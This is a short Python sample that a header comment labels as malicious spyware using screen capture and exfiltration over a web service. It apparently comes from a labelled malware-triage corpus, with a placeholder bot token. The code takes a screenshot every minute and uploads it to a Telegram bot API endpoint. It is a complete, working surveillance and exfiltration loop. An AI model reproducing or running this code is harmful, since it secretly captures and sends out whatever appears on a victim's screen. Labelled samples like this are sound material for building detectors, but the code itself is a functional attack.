# label: malicious family=spy techniques=T1113,T1567 lines=5,7
import io, time, requests
from PIL import ImageGrab
while True:
    img = ImageGrab.grab()
    b = io.BytesIO(); img.save(b, "PNG")
    requests.post("https://api.telegram.org/bot111111111:AAFAKEpytriageCORPUSfakefakefakefake/sendPhoto", data={"chat_id": "1"}, files={"photo": b.getvalue()})
    time.sleep(60)
